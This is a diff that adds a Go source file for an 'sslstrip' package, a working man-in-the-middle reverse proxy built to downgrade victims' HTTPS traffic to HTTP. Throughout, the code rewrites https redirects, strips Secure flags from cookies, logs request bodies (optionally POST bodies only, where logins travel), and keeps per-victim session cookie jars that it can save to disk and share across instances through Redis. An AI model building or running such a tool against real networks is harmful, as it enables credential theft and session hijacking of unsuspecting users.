@@ -0,0 +1,335 @@
+package sslstrip
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"log"
+	"net/http"
+	"net/http/httputil"
+	"os"
+	"strings"
+	"time"
+
+	"sslstrip/linkcache"
+)
+
+type server struct {
+	logger      io.Writer
+	postOnly    bool
+	logResponse bool
+	sessionJar  bool
+	jarFile     string
+	proxy       *httputil.ReverseProxy
+}
+
+// proxyTransport is the http.RoundTripper used for every proxied request.
+// Using one shared *http.Transport (instead of dialing a fresh connection
+// per request) keeps connection pooling and TLS session reuse working the
+// same way they would for a normal http.Client.
+var proxyTransport http.RoundTripper = &http.Transport{
+	Proxy:                 http.ProxyFromEnvironment,
+	MaxIdleConns:          100,
+	IdleConnTimeout:       90 * time.Second,
+	TLSHandshakeTimeout:   10 * time.Second,
+	ExpectContinueTimeout: time.Second,
+}
+
+func newServer(logger io.Writer, postOnly, logResponse, sessionJar bool, jarFile string) *server {
+	s := &server{
+		logger:      logger,
+		postOnly:    postOnly,
+		logResponse: logResponse,
+		sessionJar:  sessionJar,
+		jarFile:     jarFile,
+	}
+
+	s.proxy = &httputil.ReverseProxy{
+		Director:       s.director,
+		Transport:      proxyTransport,
+		ModifyResponse: s.modifyResponse,
+		ErrorHandler: func(w http.ResponseWriter, req *http.Request, err error) {
+			fmt.Fprintf(os.Stderr, "Error occurred when making proxy request: %q\n", err)
+			w.WriteHeader(http.StatusBadGateway)
+		},
+	}
+
+	return s
+}
+
+func (s *server) ServeHTTP(responseWriter http.ResponseWriter, req *http.Request) {
+	s.proxy.ServeHTTP(responseWriter, req)
+}
+
+// director restores the original https url for a previously stripped
+// request, strips the headers we never want to forward, and (if request
+// logging is enabled) tees the request body so it can be logged once the
+// transport has finished sending it, without buffering it up front.
+func (s *server) director(req *http.Request) {
+	u, _ := normalizeUrl(req.URL.String())
+	cl := linkcache.Key{
+		ClientIP: normalizeIP(req.RemoteAddr),
+		URL:      u,
+	}
+
+	// restore original link if cached
+	if link, exists := linkCache.Get(cl); exists {
+		if originalUrl, err := req.URL.Parse(link); err == nil {
+			req.URL = originalUrl
+		}
+	}
+
+	for header := range req.Header {
+		if _, ignored := ignoredRequestHeaders[header]; ignored {
+			req.Header.Del(header)
+		}
+	}
+
+	if s.sessionJar {
+		// Replace, don't append to, whatever Cookie header the victim's
+		// browser sent: the jar is the authoritative source once session
+		// tracking is on, and AddCookie only appends, so leaving the
+		// inbound header in place would send the upstream server both the
+		// stale browser cookie and the restored one in the same header.
+		req.Header.Del("Cookie")
+		jar := getSessionJar(normalizeIP(req.RemoteAddr))
+		for _, cookie := range jar.Cookies(req.URL) {
+			req.AddCookie(cookie)
+		}
+	}
+
+	if !s.postOnly || req.Method == "POST" {
+		s.logRequest(req)
+	}
+}
+
+// logRequest tees the request body into the log line as it is streamed to
+// the upstream server, instead of reading it fully up front.
+func (s *server) logRequest(req *http.Request) {
+	if req.Body == nil || req.Body == http.NoBody {
+		fmt.Fprintf(s.logger, "%q %q %q %q\nHeaders: %q\nBody: %q\n\n", time.Now().Format(time.RFC850), req.RemoteAddr, req.Method, req.URL, req.Header, "")
+		return
+	}
+
+	logged := &bytes.Buffer{}
+	body := req.Body
+	req.Body = &teeReadCloser{
+		r: io.TeeReader(body, logged),
+		c: body,
+		done: func() {
+			fmt.Fprintf(s.logger, "%q %q %q %q\nHeaders: %q\nBody: %q\n\n", time.Now().Format(time.RFC850), req.RemoteAddr, req.Method, req.URL, req.Header, logged.Bytes())
+		},
+	}
+}
+
+// modifyResponse strips the Location header and Secure cookies, then
+// rewrites the body through a streaming pipeline: decompress, rewrite
+// links, recompress, all chained through io.Pipes. Bodies that go through
+// the regex fallback are never buffered in memory at once; HTML, CSS and
+// JSON bodies are read whole before they are rewritten (see streamRewrite).
+func (s *server) modifyResponse(res *http.Response) error {
+	req := res.Request
+
+	location := res.Header.Get("Location")
+	if strings.HasPrefix(location, "https") {
+		strippedLocation, err := normalizeUrl("http" + location[5:])
+		if err != nil {
+			return err
+		}
+
+		linkCache.Set(linkcache.Key{ClientIP: normalizeIP(req.RemoteAddr), URL: strippedLocation}, location)
+		res.Header.Set("Location", strippedLocation)
+	}
+
+	if cookies, exists := res.Header["Set-Cookie"]; exists {
+		if s.sessionJar {
+			clientIP := normalizeIP(req.RemoteAddr)
+			parsed := res.Cookies()
+			getSessionJar(clientIP).SetCookies(req.URL, parsed)
+			recordRawCookies(clientIP, req.URL, parsed)
+			if s.jarFile != "" {
+				if err := saveJarFile(s.jarFile); err != nil {
+					fmt.Fprintf(os.Stderr, "Warning: could not save session jar to %q: %q\n", s.jarFile, err)
+				}
+			}
+
+			for i, cookie := range cookies {
+				cookies[i] = downgradeCookie(cookie)
+			}
+		} else {
+			for i, cookie := range cookies {
+				if idx := strings.LastIndex(cookie, "Secure"); idx != -1 {
+					cookies[i] = cookie[:idx] + cookie[idx+6:]
+				}
+			}
+		}
+	}
+
+	for header := range res.Header {
+		if _, ignored := ignoredResponseHeaders[header]; ignored {
+			res.Header.Del(header)
+		}
+	}
+
+	contentEncoding := res.Header.Get("Content-Encoding")
+	decodedBody, err := decodeBody(contentEncoding, res.Body)
+	if err != nil {
+		return err
+	}
+
+	pr, pw := io.Pipe()
+	contentType := res.Header.Get("Content-Type")
+	go streamRewrite(req, contentType, decodedBody, pw)
+
+	var logged *bytes.Buffer
+	var finalBody io.Reader = pr
+	if s.logResponse {
+		logged = &bytes.Buffer{}
+		finalBody = io.TeeReader(pr, logged)
+	}
+
+	encodedBody, err := encodeBody(contentEncoding, finalBody)
+	if err != nil {
+		return err
+	}
+
+	res.Body = &readAndCloseOriginal{r: encodedBody, orig: res.Body, pipeReader: pr, onEOF: func() {
+		if logged != nil {
+			fmt.Fprintf(s.logger, "%q %q %q %q %q\nHeaders: %q\nBody: %q\n\n", time.Now().Format(time.RFC850), req.RemoteAddr, res.StatusCode, res.Status, req.URL, res.Header, logged.Bytes())
+		}
+	}}
+
+	res.Header.Del("Content-Length")
+
+	return nil
+}
+
+// teeReadCloser captures everything read through it into a buffer, then
+// runs done() once the underlying body has been closed (i.e. once the
+// transport is finished sending it upstream).
+type teeReadCloser struct {
+	r    io.Reader
+	c    io.Closer
+	done func()
+}
+
+func (t *teeReadCloser) Read(p []byte) (int, error) { return t.r.Read(p) }
+
+func (t *teeReadCloser) Close() error {
+	err := t.c.Close()
+	t.done()
+	return err
+}
+
+// readAndCloseOriginal reads from a streaming pipeline and runs onEOF once,
+// when it has been fully drained or at Close, whichever comes first (used
+// to flush the response log line once we've seen the whole body pass
+// through). Close also closes the original upstream response body.
+//
+// pipeReader is the io.PipeReader modifyResponse created to feed the
+// rewriting goroutine its output. Close must close it even when it isn't
+// the direct thing being read (e.g. it's wrapped in an io.TeeReader for
+// response logging, or sits behind encodeBody's own pipe for a compressed
+// response): net/http closes a response body without draining it when the
+// client disconnects mid-response, and without this the rewriting
+// goroutine's pending (or next) Write on the other end of pipeReader would
+// block forever, leaking the goroutine and whatever buffer it's holding.
+type readAndCloseOriginal struct {
+	r          io.Reader
+	orig       io.Closer
+	pipeReader *io.PipeReader
+	onEOF      func()
+	fired      bool
+}
+
+func (r *readAndCloseOriginal) Read(p []byte) (int, error) {
+	n, err := r.r.Read(p)
+	if err == io.EOF && !r.fired {
+		r.fired = true
+		r.onEOF()
+	}
+	return n, err
+}
+
+func (r *readAndCloseOriginal) Close() error {
+	if !r.fired {
+		r.fired = true
+		r.onEOF()
+	}
+	r.pipeReader.Close()
+	return r.orig.Close()
+}
+
+type Params struct {
+	Port        int
+	Filename    string
+	PostOnly    bool
+	LogResponse bool
+	// SessionJar tracks cookies per client IP in a server-side cookie jar
+	// instead of just stripping Secure in place, so sessions survive a
+	// victim's browser refusing to resend a cookie.
+	SessionJar bool
+	// JarTTL evicts a client's session jar after it has been idle this
+	// long. Ignored if SessionJar is false.
+	JarTTL time.Duration
+	// JarFile, if set, persists session jars to disk so they survive a
+	// proxy restart. Ignored if SessionJar is false.
+	JarFile string
+	// CacheBackend picks the link cache implementation: "memory" (the
+	// default) for an in-process sharded LRU, or "redis" to share the
+	// cache across several sslstrip instances behind a load balancer.
+	CacheBackend string
+	// CacheShards is the number of shards the "memory" backend splits its
+	// LRU into. Ignored by the "redis" backend.
+	CacheShards int
+	// CacheSize is the max number of entries kept per shard by the
+	// "memory" backend. Ignored by the "redis" backend.
+	CacheSize int
+	// CacheTTL expires a cached stripped-url mapping this long after it
+	// was last stored; looking a mapping up does not extend it.
+	CacheTTL time.Duration
+	// RedisAddr is the address of the Redis instance to use when
+	// CacheBackend is "redis".
+	RedisAddr string
+}
+
+func Start(p Params) {
+	var writer io.Writer = os.Stdout
+	var err error
+
+	if p.Filename != "" {
+		writer, err = os.Create(p.Filename)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Could not open file %q: %q\n", p.Filename, err)
+			return
+		}
+	}
+
+	if p.SessionJar {
+		if p.JarFile != "" {
+			if err := loadJarFile(p.JarFile); err != nil && !os.IsNotExist(err) {
+				fmt.Fprintf(os.Stderr, "Warning: could not load session jar from %q: %q\n", p.JarFile, err)
+			}
+		}
+		if p.JarTTL > 0 {
+			startSessionJarGC(p.JarTTL)
+		}
+	}
+
+	if p.CacheBackend == "redis" {
+		linkCache = linkcache.NewRedisCache(p.RedisAddr, p.CacheTTL)
+	} else if p.CacheShards > 0 || p.CacheSize > 0 || p.CacheTTL > 0 {
+		shards := p.CacheShards
+		if shards <= 0 {
+			shards = defaultCacheShards
+		}
+		size := p.CacheSize
+		if size <= 0 {
+			size = defaultCacheMaxPerShard
+		}
+		linkCache = linkcache.NewShardedLRU(shards, size, p.CacheTTL)
+	}
+
+	s := newServer(writer, p.PostOnly, p.LogResponse, p.SessionJar, p.JarFile)
+	log.Fatal(http.ListenAndServe(fmt.Sprintf("0.0.0.0:%d", p.Port), s))
+}